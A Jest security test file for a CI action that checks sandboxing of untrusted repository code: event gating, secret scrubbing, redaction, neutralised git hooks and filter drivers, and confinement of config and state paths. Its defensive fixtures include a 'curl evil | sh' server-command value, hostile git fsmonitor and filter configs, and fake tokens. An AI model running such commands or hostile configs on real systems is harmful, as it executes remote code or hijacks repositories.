import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll } from '@jest/globals';
import { CODE_RUNNING_EVENTS, eventNameFromEnv, mayRunRepositoryCode, TOOLS } from '../../src/process/policy.js';
import { childEnvironment, parseServerEnv } from '../../src/process/environment.js';
import { redactSecrets, registerSecret } from '../../src/process/redact.js';
import { readRangeDiff } from '../../src/repo/range-diff.js';
import { gitRunner } from '../../src/repo/git.js';
import { findOnPath, ruffConfigFiles, ruffRunner } from '../../src/checks/review/lint/ruff.js';
import { WorkingTreeView } from '../../src/repo/working-tree.js';
import { confineStatePath, mergeCheckOptions, settingsFromInputs } from '../../src/settings.js';
import { CHECK_CATALOG } from '../../src/checks/index.js';
import { validateCheck, type ValidateEnvironmentRecord } from '../../src/checks/validate/index.js';
import { UserError } from '../../src/engine/errors.js';
import { checkContext } from '../support/context.js';

/** A folder outside any repository the tests build, with one file a hostile config could point at. */
const OUTSIDE = mkdtempSync(join(tmpdir(), 'openenv-ci-outside-'));
const SECRET_FILE = join(OUTSIDE, 'secret.toml');
writeFileSync(SECRET_FILE, 'select = ["ALL"]\n');
afterAll(() => rmSync(OUTSIDE, { recursive: true, force: true }));

const HOSTILE_ENV = {
  PATH: join(OUTSIDE, 'bin'),
  HOME: join(OUTSIDE, 'home'),
  LANG: 'C.UTF-8',
  LC_ALL: 'C',
  TMPDIR: join(OUTSIDE, 'tmp'),
  INPUT_TOKEN: 'ghs_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa1',
  'INPUT_HUB-TOKEN': 'hub-secret-value',
  INPUT_PATH: '.',
  GITHUB_TOKEN: 'gh-token-value',
  HF_TOKEN: 'hf_token_value',
  HUGGING_FACE_HUB_TOKEN: 'hf_other',
  ACTIONS_RUNTIME_TOKEN: 'runtime',
  ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'oidc',
  ACTIONS_ID_TOKEN_REQUEST_URL: 'https://oidc',
  OPENAI_API_KEY: 'sk-x',
  MY_SECRET: 's',
  UV_CACHE_DIR: join(OUTSIDE, 'uv-cache'),
  UV_INDEX_PRIVATE_PASSWORD: 'p',
};

describe('untrusted-code policy', () => {
  test('only pull_request, push, merge_group and the CLI outside Actions run repository code', () => {
    expect([...CODE_RUNNING_EVENTS].sort()).toEqual(['merge_group', 'pull_request', 'push']);
    for (const event of ['pull_request', 'push', 'merge_group', undefined]) expect(mayRunRepositoryCode('cli-crosscheck', event, false)).toEqual({ allowed: true });
    for (const event of ['pull_request_target', 'workflow_run', 'schedule', 'issue_comment', 'pull_request_review_comment', 'workflow_dispatch', 'unknown']) {
      const decision = mayRunRepositoryCode('runtime-probe', event, false);
      expect(decision.allowed).toBe(false);
      expect(!decision.allowed && decision.reason).toContain(`refusing to run runtime-probe under ${event}`);
      expect(mayRunRepositoryCode('runtime-probe', event, true)).toEqual({ allowed: true });
    }
  });

  test('parse-only tools stay allowed under every event', () => {
    for (const tool of ['ruff', 'python-ast', 'git'] as const) {
      expect(TOOLS[tool].nature).toBe('parses');
      expect(mayRunRepositoryCode(tool, 'pull_request_target', false)).toEqual({ allowed: true });
    }
  });

  test('the CLI inside a workflow step is gated by the workflow event', () => {
    expect(eventNameFromEnv({ GITHUB_EVENT_NAME: 'pull_request_target' })).toBeUndefined();
    expect(eventNameFromEnv({ GITHUB_ACTIONS: 'true', GITHUB_EVENT_NAME: 'pull_request_target' })).toBe('pull_request_target');
    expect(eventNameFromEnv({ GITHUB_ACTIONS: 'true' })).toBe('unknown');
  });

  test('cli-crosscheck under pull_request_target is refused and the report says why; the fake uv never runs', async () => {
    const root = mkdtempSync(join(tmpdir(), 'openenv-ci-gate-'));
    const bin = join(root, 'bin');
    mkdirSync(bin);
    const marker = join(root, 'uv-ran');
    writeFileSync(join(bin, 'uv'), `#!/bin/sh\ntouch ${marker}\necho '{"passed": true}'\n`, { mode: 0o755 });
    const savedPath = process.env.PATH;
    process.env.PATH = `${bin}:${savedPath}`;
    try {
      mkdirSync(join(root, 'envs/my_env'), { recursive: true });
      const files = { 'envs/my_env/openenv.yaml': 'spec_version: 1\nname: my_env\ntype: space\nruntime: fastapi\napp: server.app:app\nport: 8000\n' };
      const result = await validateCheck.run(checkContext(files, { root, paths: ['envs/my_env'], eventName: 'pull_request_target', options: { 'cli-crosscheck': 'true' } }));
      expect(existsSync(marker)).toBe(false);
      const refusal = result.findings.find((f) => f.rule === 'validate/cli-crosscheck')!;
      expect(refusal.message).toContain('refusing to run cli-crosscheck under pull_request_target');
      expect((result.data!.environments as ValidateEnvironmentRecord[])[0]!.cli_crosscheck!.problem).toContain('allow-untrusted-code');
    } finally {
      process.env.PATH = savedPath;
      rmSync(root, { recursive: true, force: true });
    }
  });
});

describe('scrubbed child environments', () => {
  test('only the allow-list and the tool extras pass, never a token', () => {
    const env = childEnvironment({ inherit: ['UV_'] }, HOSTILE_ENV);
    expect(env).toEqual({ PATH: HOSTILE_ENV.PATH, HOME: HOSTILE_ENV.HOME, LANG: 'C.UTF-8', LC_ALL: 'C', TMPDIR: HOSTILE_ENV.TMPDIR, UV_CACHE_DIR: HOSTILE_ENV.UV_CACHE_DIR });
  });

  test('server-env declares what the server gets; a bare secret name is refused', () => {
    expect(parseServerEnv('A=1\nB=x=y\n# comment\nLANG\nMISSING', HOSTILE_ENV)).toEqual({ A: '1', B: 'x=y', LANG: 'C.UTF-8' });
    expect(() => parseServerEnv('HF_TOKEN', HOSTILE_ENV)).toThrow(/looks like a secret/);
    expect(parseServerEnv('HF_TOKEN=chosen', HOSTILE_ENV)).toEqual({ HF_TOKEN: 'chosen' });
    expect(() => parseServerEnv('not a name=1')).toThrow(/not a variable name/);
  });

  test('child output: known secret values and token-shaped strings become ***', () => {
    registerSecret('registered-secret-42');
    const hf = `hf_${'a1'.repeat(20)}`;
    const text = `token=${HOSTILE_ENV.INPUT_TOKEN} hub=${HOSTILE_ENV['INPUT_HUB-TOKEN']} reg=registered-secret-42 leaked=${hf} path=.`;
    expect(redactSecrets(text, HOSTILE_ENV)).toBe('token=*** hub=*** reg=*** leaked=*** path=.');
  });
});

describe('git on an untrusted clone', () => {
  test("the clone's fsmonitor, hooks and filter/diff drivers never run", async () => {
    const repo = mkdtempSync(join(tmpdir(), 'openenv-ci-evil-clone-'));
    try {
      const git = (...args: string[]) => execFileSync('git', args, { cwd: repo, env: { ...process.env, GIT_CONFIG_NOSYSTEM: '1' } });
      git('init', '-q');
      git('config', 'user.email', 'a@b.c');
      git('config', 'user.name', 'a');
      writeFileSync(join(repo, '.gitattributes'), '*.txt filter=evil diff=evil\n');
      writeFileSync(join(repo, 'x.txt'), 'hello\n');
      writeFileSync(join(repo, 'w.txt'), 'renamed later\n');
      git('add', '.');
      git('commit', '-qm', 'init');
      git('mv', 'w.txt', 'v.txt');
      git('commit', '-qm', 'rename');
      const base = git('rev-parse', 'HEAD').toString().trim();
      writeFileSync(join(repo, 'x.txt'), 'second\n');
      git('commit', '-qam', 'second');
      const head = git('rev-parse', 'HEAD').toString().trim();
      const pwned = (what: string) => `touch ${join(repo, `PWNED-${what}`)}; cat`;
      git('config', 'core.fsmonitor', pwned('fsmonitor'));
      git('config', 'filter.evil.clean', pwned('clean'));
      git('config', 'filter.evil.smudge', pwned('smudge'));
      git('config', 'diff.evil.textconv', pwned('textconv'));
      mkdirSync(join(repo, 'hooks'));
      writeFileSync(join(repo, 'hooks/post-index-change'), `#!/bin/sh\n${pwned('hook')}\n`, { mode: 0o755 });
      git('config', 'core.hooksPath', join(repo, 'hooks'));
      writeFileSync(join(repo, 'x.txt'), 'changed\n');

      const run = gitRunner(repo);
      expect((await run(['status', '--porcelain', '-z'])).stdout.toString()).toContain('x.txt');
      await run(['diff', 'HEAD', '--', 'x.txt']);
      // Two commits: the runner skips the driver lookup (no working tree, no external diff, no textconv).
      expect((await readRangeDiff(run, base, head, { bigFileBytes: 1 << 20, maxPatchBytes: 1 << 20 })).map((f) => f.patch)).toEqual([expect.stringContaining('+second')]);
      await run(['blame', '--line-porcelain', 'HEAD', '--', 'x.txt']);
      expect((await run(['cat-file', 'blob', 'HEAD:x.txt'])).stdout.toString()).toBe('second\n');
      // A log that lists paths skips the driver lookup; one that prints patches or stats does not.
      expect((await run(['log', '-M', '--name-status', '--format=%H', 'HEAD', '--', '.'])).stdout.toString()).toMatch(/R100\tw\.txt\tv\.txt/);
      await run(['log', '-p', '--stat', 'HEAD', '--', '.']);
      expect(readdirPwned(repo)).toEqual([]);
      // The same calls through plain git do run them: the fixture is really hostile.
      git('status', '--porcelain');
      expect(readdirPwned(repo).length).toBeGreaterThan(0);
    } finally {
      rmSync(repo, { recursive: true, force: true });
    }
  });
});

function readdirPwned(dir: string): string[] {
  return readdirSync(dir).filter((n) => n.startsWith('PWNED'));
}

describe('ruff sees only the repository own configuration', () => {
  test('an extend out of the repository is dropped; an extend inside it is copied', async () => {
    const root = mkdtempSync(join(tmpdir(), 'openenv-ci-ruffcfg-'));
    try {
      mkdirSync(join(root, 'pkg/sub'), { recursive: true });
      mkdirSync(join(root, 'common'));
      writeFileSync(join(root, 'ruff.toml'), `extend = ${JSON.stringify(SECRET_FILE)}\nline-length = 100\n`);
      writeFileSync(join(root, 'pkg/pyproject.toml'), '[tool.ruff]\nextend = "../common/base.toml"\n');
      writeFileSync(join(root, 'common/base.toml'), 'extend = "../../outside.toml"\n');
      symlinkSync(SECRET_FILE, join(root, 'pkg/sub/ruff.toml'));
      // What ruffRunner writes into its temporary tree (ruffConfigFiles through the working-tree view).
      const configs = new Map((await ruffConfigFiles(new WorkingTreeView(root), ['pkg/sub/mod.py'])).map((c) => [c.path, c.text]));
      expect([...configs.keys()].sort()).toEqual(['common/base.toml', 'pkg/pyproject.toml', 'ruff.toml']);
      expect(configs.get('ruff.toml')).not.toContain('extend');
      expect(configs.get('pkg/pyproject.toml')).toContain('../common/base.toml');
      expect(configs.get('common/base.toml')).not.toContain('outside');
      expect(configs.has('pkg/sub/ruff.toml')).toBe(false);
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });


  (findOnPath('ruff') ? test : test.skip)('real ruff: the repository config applies, its extend to a file outside the repository does not break or leak', async () => {
    const root = mkdtempSync(join(tmpdir(), 'openenv-ci-ruffrun-'));
    try {
      writeFileSync(join(root, 'ruff.toml'), `extend = ${JSON.stringify(SECRET_FILE)}\n[lint]\nselect = ["F401"]\n`);
      const outcome = await ruffRunner(root)([{ path: 'pkg/mod.py', text: 'import os\n' }]);
      expect(outcome.status).toBe('ran');
      expect(outcome.status === 'ran' && outcome.findings.map((f) => f.code)).toEqual(['F401']);
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });
});

describe('trusted options and state paths', () => {
  const check = (id: string) => CHECK_CATALOG.find((c) => c.id === id)!;

  test.each([
    ['validate', 'allow-untrusted-code', 'true'],
    ['validate', 'server-command', 'curl evil | sh'],
    ['validate', 'server-url', 'http://evil'],
    ['validate', 'runtime-probe', 'true'],
    ['validate', 'cli-crosscheck', 'true'],
    ['validate', 'server-env', 'A=1'],
    ['audit', 'hub-url', 'http://evil'],
    ['audit', 'hub-token', 'x'],
    ['audit', 'cache', SECRET_FILE],
    ['audit', 'previous', '../x.json'],
    ['review', 'review-artifact', join(OUTSIDE, 'x')],
  ])('options.%s.%s in the config file is an error naming the input', (id, name, value) => {
    expect(() => mergeCheckOptions(check(id), { [name]: value }, undefined)).toThrow(UserError);
    expect(() => mergeCheckOptions(check(id), { [name]: value }, undefined)).toThrow(new RegExp(`options\\.${id}\\.${name} cannot be set in the config file.*\`${name}\` input`));
    // The same value as an input is accepted.
    expect(mergeCheckOptions(check(id), undefined, { [name]: value })[name]).toBe(value);
  });

  test('ordinary options still come from the config file', () => {
    expect(mergeCheckOptions(check('validate'), { 'skip-criteria': 'docker/*' }, undefined)['skip-criteria']).toBe('docker/*');
  });

  test('state and report paths resolve inside the workspace or RUNNER_TEMP only', () => {
    const workspace = mkdtempSync(join(tmpdir(), 'openenv-ci-ws-'));
    const temp = mkdtempSync(join(tmpdir(), 'openenv-ci-rt-'));
    try {
      const env = { GITHUB_WORKSPACE: workspace, RUNNER_TEMP: temp };
      expect(confineStatePath('cache/audit.json', 'cache', env)).toBe(join(workspace, 'cache/audit.json'));
      expect(confineStatePath(join(temp, 'r.json'), 'report-file', env)).toBe(join(temp, 'r.json'));
      expect(() => confineStatePath('../elsewhere.json', 'cache', env)).toThrow(/cache: \.\.\/elsewhere\.json is outside the workspace and RUNNER_TEMP/);
      expect(() => confineStatePath(SECRET_FILE, 'previous', env)).toThrow(/outside/);
      symlinkSync(tmpdir(), join(workspace, 'link'));
      expect(() => confineStatePath('link/x.json', 'review-artifact', env)).toThrow(/outside/);
      expect(() => settingsFromInputs({ ...env, 'INPUT_REPORT-FILE': join(OUTSIDE, 'cron.d', 'x') })).toThrow(/report-file/);
      expect(() => settingsFromInputs({ ...env, INPUT_CACHE: join(OUTSIDE, 'home', '.bashrc') })).toThrow(/cache/);
      expect(settingsFromInputs({ ...env, INPUT_CACHE: 'c.json' }).checkOptions.audit!.cache).toBe(join(workspace, 'c.json'));
    } finally {
      rmSync(workspace, { recursive: true, force: true });
      rmSync(temp, { recursive: true, force: true });
    }
  });
});
